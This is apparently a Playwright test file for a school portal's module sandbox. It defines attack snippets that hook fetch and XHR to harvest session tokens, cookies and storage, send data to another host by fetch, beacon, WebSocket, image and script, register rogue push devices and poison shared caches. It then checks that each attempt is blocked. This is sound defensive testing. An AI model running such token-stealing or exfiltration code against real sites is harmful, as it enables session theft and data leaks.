import { createServer } from 'node:http'
import { once } from 'node:events'
import { expect, type Page } from '@playwright/test'
import { frame } from '../../pages/frame.ts'
import type { Account } from '../accounts.ts'
import { type AddedCode, remote, title } from './candidate.ts'
import { otherHost } from './candidate-attacks.ts'

/** Harmful code that runs in a teacher's page, as if the gate had passed and signed it. */
export interface ReleasedAttack {
  id: string
  attack: string
  /** The limit of its effect, for the documentation's table. */
  outcome: string
  code: AddedCode
  /** Whose page it is; a teacher's by default. */
  as?: Account
  /** Whether the last good version is shown instead. */
  isReplaced?: boolean
  /** Verifies the outcome on the attacked page of the teacher with this session token. */
  verify: (page: Page, token: string) => Promise<void>
}

/** The values that the code has put into `window.loot`. */
const lootOf = (page: Page) => page.evaluate((): unknown[] => [Reflect.get(window, 'loot')].flat())

/** Resolves when the code has put all of its values there. */
async function expectLoot(page: Page, verify: (loot: string) => void): Promise<void> {
  await expect.poll(() => lootOf(page)).toContain('the end')
  verify(JSON.stringify(await lootOf(page)))
}

/** Starts a host that is not the portal and records its requests. */
export async function startOtherHost(): Promise<{ origin: string; requests: string[]; stop: () => void }> {
  const requests: string[] = []
  const server = createServer((request, response) => {
    requests.push(request.url ?? '')
    response.setHeader('access-control-allow-origin', '*').end()
  })
  server.on('upgrade', (request, socket) => {
    requests.push(`socket ${request.url}`)
    socket.destroy()
  })
  await once(server.listen(0, '127.0.0.1'), 'listening')
  const address = server.address()
  if (typeof address !== 'object' || !address) throw new Error('The other host listens on no port')
  return { origin: `127.0.0.1:${address.port}`, requests, stop: () => void server.close() }
}

/** Every attack by released code whose limit is tested. */
export const releasedAttacks: readonly ReleasedAttack[] = [
  {
    id: 'reads-token',
    attack: "Reads the session's token from cookies, storage, the API client and every request and response",
    outcome: 'It finds the session, without its token',
    code: {
      evaluate: `const loot=window.loot=[];const {fetch:send}=window;
window.fetch=async(...call)=>{const request=new Request(...call);loot.push(JSON.stringify([...request.headers]));const response=await send(...call);loot.push(JSON.stringify([...response.headers]),await response.clone().text());return response};
const {open,setRequestHeader}=XMLHttpRequest.prototype;
XMLHttpRequest.prototype.setRequestHeader=function(...header){loot.push(header.join());return setRequestHeader.apply(this,header)};
XMLHttpRequest.prototype.open=function(...call){this.addEventListener('load',()=>loot.push(this.getAllResponseHeaders(),String(this.responseType==='blob'?'':this.responseType==='json'?JSON.stringify(this.response):this.responseText)));return open.apply(this,call)}`,
      mount: `const {loot}=window,{client}=await shared('@portal/api-client');loot.push(document.cookie,...Object.values(localStorage),...Object.values(sessionStorage),JSON.stringify(props.session),...Reflect.ownKeys(client).map((key)=>String(client[key])));
await client.get({url:'/api/annee/select'}).then((answer)=>loot.push(JSON.stringify(answer)),(error)=>loot.push(JSON.stringify(error)));loot.push('the end')`,
    },
    verify: (page, token) =>
      expectLoot(page, (loot) => {
        expect(loot).toContain(String.raw`\"api_token\":\"\"`)
        expect(loot).not.toContain(token)
      }),
  },
  {
    id: 'configures-client',
    attack: 'Replaces or configures the shared API client, the session or another shared module',
    outcome: 'No assignment has an effect, and no module has `configureApi`',
    code: {
      mount: `const loot=[];
const replace=(owner,key,place)=>{const before=owner[key],put=()=>0;try{owner[key]=put}catch{}if(owner[key]===put){loot.push(place);owner[key]=before}};
for(const name of Object.keys(scope)){const module=await shared(name);
for(const key of ['configureApi','setLanguage','startI18n','PortalContext'])if(key in module)loot.push(name+' has '+key);
for(const [key,value] of Object.entries(module)){replace(module,key,name+' '+key);
if(value===Object(value)&&!key.startsWith('__')&&value.$$typeof!==Symbol.for('react.context'))for(const part of Object.keys(value))replace(value,part,name+' '+key+' '+part)}}
for(const key of Object.keys(props.session))replace(props.session,key,'session '+key);
loot.push('the end');window.loot=loot`,
    },
    verify: (page) => expectLoot(page, (loot) => expect(loot).toBe('["the end"]')),
  },
  {
    id: 'sends-data',
    attack: 'Sends data to another host by `fetch`, a beacon, a WebSocket, an image or a script',
    outcome: 'The content security policy refuses each; the host receives no request',
    code: {
      mount: `window.loot=[];const host='${otherHost}';
const refused=new Promise((done)=>{let count=0;document.addEventListener('securitypolicyviolation',()=>{if(++count>=5)done()})});
fetch('http://'+host+'/fetch',{mode:'no-cors'}).catch(()=>{});navigator.sendBeacon('http://'+host+'/beacon','x');
try{new WebSocket('ws://'+host+'/socket')}catch{}
new Image().src='http://'+host+'/image';
const script=document.createElement('script');script.src='http://'+host+'/script';document.head.append(script);
refused.then(()=>window.loot.push('the end'))`,
    },
    verify: (page) => expectLoot(page, (loot) => expect(loot).toBe('["the end"]')),
  },
  {
    id: 'peer-connection',
    attack: 'Opens a connection to a peer, which no policy of the page covers, also by the window of a frame',
    outcome: 'The page has no such connections, and shows no window of a frame',
    code: {
      mount: `const frame=document.createElement('iframe');props.container.append(frame);
window.loot=[typeof RTCPeerConnection,typeof WebTransport,String(frame.contentWindow),String(frame.contentDocument),'the end'];frame.remove()`,
    },
    verify: (page) =>
      expectLoot(page, (loot) => expect(loot).toBe('["undefined","undefined","undefined","undefined","the end"]')),
  },
  {
    id: 'lasting-access',
    attack: 'Registers a device of its own for the notifications of the teacher, and creates a calendar address',
    outcome: 'Both calls are refused without the password: `422 password.missing`, `422 password.wrong`',
    code: {
      mount: `const loot=[];const call=async(path,body)=>{const answer=await fetch('/api'+path,{method:'POST',headers:{'x-session':'cookie','content-type':'application/json'},body:JSON.stringify(body)});loot.push(answer.status+' '+(await answer.json()).code)};
const device={endpoint:'https://fcm.googleapis.com/fcm/send/elsewhere',p256dh:'A'.repeat(87),auth:'A'.repeat(22),language:'fr'};
await call('/v1/push-devices',device);await call('/v1/push-devices',{...device,password:'guess'});
await call('/emploi/calendrier',{});await call('/emploi/calendrier',{password:'guess'});
loot.push('the end');window.loot=loot`,
    },
    verify: (page) =>
      expectLoot(page, (loot) => {
        const refused = ['422 password.missing', '422 password.wrong']
        expect(loot).toBe(JSON.stringify([...refused, ...refused, 'the end']))
      }),
  },
  {
    id: 'inserts-style',
    attack: 'Inserts a style element with `body { display: none }`',
    outcome: 'The content security policy refuses it; the portal stays visible',
    code: {
      mount: `window.loot=[];document.addEventListener('securitypolicyviolation',()=>window.loot.push('the end'));const style=document.createElement('style');style.textContent='body{display:none}';document.head.append(style)`,
    },
    verify: async (page) => {
      await expectLoot(page, () => undefined)
      await expect(page.getByRole('heading', { level: 1, name: title })).toBeVisible()
    },
  },
  {
    id: 'renders-without-end',
    attack: 'A page that sets its state while it is rendered, without end',
    outcome: 'The last good version replaces it',
    code: {
      page: '(props)=>{const {React}=OWN,[count,setCount]=React.useState(0);setCount(count+1);return Page(props)}',
    },
    isReplaced: true,
    verify: (page) => expect(page.getByRole('heading', { level: 1, name: title })).toBeVisible(),
  },
  ...(['teacher', 'head'] as const).map((as): ReleasedAttack => ({
    id: as === 'teacher' ? 'takes-globals' : 'takes-globals-of-head',
    attack:
      as === 'teacher'
        ? 'Defines the container and the queue of chunks of every other module'
        : 'The same in the page of a head',
    outcome: 'Each module runs only what its own verified entry has defined',
    as,
    code: {
      mount: `const {remotes}=await (await fetch('/portal/registry',{headers:{'x-session':'cookie'}})).json();
const foreign={init(){},get:async()=>()=>({bootstrap:async()=>{},mount:async({container})=>{container.innerHTML='<h1>Foreign</h1>'},unmount:async()=>{}})};
for(const {name,global} of remotes)if(name!=='${remote}'){
try{Object.defineProperty(window,global,{value:foreign,configurable:true,writable:true})}catch{}
try{Object.defineProperty(window,'chunks_'+global,{value:[[['remote'],{},()=>{throw new Error('foreign')}]],configurable:true,writable:true})}catch{}}
window.loot=['the end']`,
    },
    verify: openOtherModules,
  })),
  {
    id: 'rewrites-texts',
    attack: 'Declares the texts of the portal, of its kit and of other modules anew',
    outcome: 'The portal refuses them, and every text stays',
    code: {
      mount: `const {defineTexts}=await shared('@portal/i18n');
for(const namespace of ['common','shell','remote-kit','marksGrid','notifications','account','marks'])try{defineTexts(namespace,{palette:{title:'Foreign'},cancel:'Foreign',news:{title:'Foreign'}},{en:async()=>({default:{}}),ar:async()=>({default:{}})})}catch{}
window.loot=['the end']`,
    },
    verify: async (page) => {
      await openOtherModules(page)
      await expect(frame(page).searchButton).toBeVisible()
    },
  },
  {
    id: 'delays-texts',
    attack: 'Declares texts of its own whose other languages never load',
    outcome: 'The language changes after the time limit',
    code: {
      mount: `const {defineTexts}=await shared('@portal/i18n'),never=()=>new Promise(()=>{});
defineTexts('${remote}',{},{en:never,ar:never});window.loot=['the end']`,
    },
    verify: async (page) => {
      await expectLoot(page, () => undefined)
      await frame(page).speak('English')
      await expect(page.locator('html')).toHaveAttribute('lang', 'en')
      await frame(page).speak('Français')
      await expect(page.locator('html')).toHaveAttribute('lang', 'fr')
    },
  },
  {
    id: 'moves-draft',
    attack: 'Takes the unsaved input of another module by `movedFrom`, by the name of a sheet and by a key',
    outcome: 'It gets nothing, and the input stays',
    code: {
      page: `(props)=>{const {React,kit}=OWN,{accountId}=kit.useSession(),key='draft:'+accountId+':marks/attendance:1';
React.useMemo(()=>localStorage.setItem(key,'["12"]'),[key]);
const drafts=[kit.useDraft('attendance:1',{movedFrom:'marks'}),kit.useDraft('marks/attendance:1'),...(kit.localDraft?[kit.localDraft(key)]:[])];
React.useEffect(()=>{window.loot=[...drafts.map((draft)=>JSON.stringify(draft.read())),String(localStorage.getItem(key)),'the end'];localStorage.removeItem(key)},[]);
return Page(props)}`,
    },
    verify: (page) =>
      expectLoot(page, (loot) => expect(JSON.parse(loot)).toEqual(['null', 'null', '["12"]', 'the end'])),
  },
  {
    id: 'stops-queries',
    attack: 'Changes the defaults, the classes and the cache of the query client so that no page loads',
    outcome: 'Only its own queries stop; the other modules load their data',
    code: {
      mount: `const {queryClient}=props,library=await shared('@tanstack/react-query');
const attempt=(act)=>{try{act()}catch{}};
attempt(()=>queryClient.setDefaultOptions({queries:{enabled:false},mutations:{networkMode:'offlineFirst',retry:9}}));
attempt(()=>queryClient.setQueryDefaults([],{enabled:false}));
for(const start of [queryClient,queryClient.getQueryCache(),...['QueryClient','QueryCache','QueryObserver','Query'].map((name)=>library[name]?.prototype)])
for(let at=start;at&&at!==Object.prototype;at=Object.getPrototypeOf(at))for(const key of ['fetch','fetchQuery','build','find','getOptimisticResult','setOptions','onSubscribe','defaultQueryOptions'])
if(Object.hasOwn(at,key))attempt(()=>{at[key]=()=>new Promise(()=>{})});
attempt(()=>queryClient.getQueryCache().config.onSuccess=()=>{throw new Error('foreign')});
window.loot=['the end']`,
    },
    verify: openOtherModules,
  },
  {
    id: 'writes-cache',
    attack: 'Writes false answers of the API into the query cache, under the keys of other modules',
    outcome: 'The other modules show the answers of the server',
    code: {
      mount: `const {queryClient}=props;
for(const id of ['getHomeVisit','listTasks','getAgenda','listPublishedNews','countUnreadNotifications','listNotifications'])
queryClient.setQueryDefaults([{_id:id}],{initialData:7,staleTime:Infinity});
window.loot=['the end']`,
    },
    verify: openOtherModules,
  },
  {
    id: 'acts-after-leaving',
    attack: 'Sets titles, reports unsaved work, navigates and restarts itself after its page was left',
    outcome: 'The other modules keep page and title, and are left without a question',
    code: {
      mount: `setInterval(()=>{if(props.container.isConnected)return;
props.setTitle('Foreign');props.unsaved.set('foreign',true);props.restart();props.navigate('/Foreign')},50);
window.loot=['the end']`,
    },
    verify: async (page) => {
      await openOtherModules(page)
      await expect(page).not.toHaveTitle(/Foreign/)
      await expect(page).not.toHaveURL(/Foreign/)
      await expect(page.getByRole('alertdialog')).toHaveCount(0)
    },
  },
  {
    id: 'invalidates-without-end',
    attack: 'Invalidates the queries of every module without end, by keys and by the names of operations',
    outcome: 'The other modules read what they show a few times more, and ever more rarely',
    code: {
      mount: `setInterval(()=>{props.queryClient.invalidateQueries({queryKey:[]});
for(const _id of ['getHomeVisit','listTasks','getAgenda','listPublishedNews'])props.queryClient.invalidateQueries({queryKey:[{_id}]})},20);
window.loot=['the end']`,
    },
    verify: async (page) => {
      await openOtherModules(page)
      let reads = 0
      page.on('request', (request) => (reads += request.url().includes('/api/') ? 1 : 0))
      await page.waitForTimeout(5_000)
      expect(reads).toBeLessThan(40)
    },
  },
]

/** Opens pages of two other modules when the code has run; they must show their data. */
async function openOtherModules(page: Page): Promise<void> {
  await expectLoot(page, () => undefined)
  await frame(page).entry('Actualités').click()
  await expect(frame(page).title('Actualités')).toBeVisible()
  const home = page.locator('[data-remote^="account@"]:not([data-card])')
  await expect(home).toBeVisible()
  await expect(home.locator('[data-placeholder]')).toHaveCount(0)
  await expect(home.locator('[data-card]:visible')).not.toHaveCount(0)
}
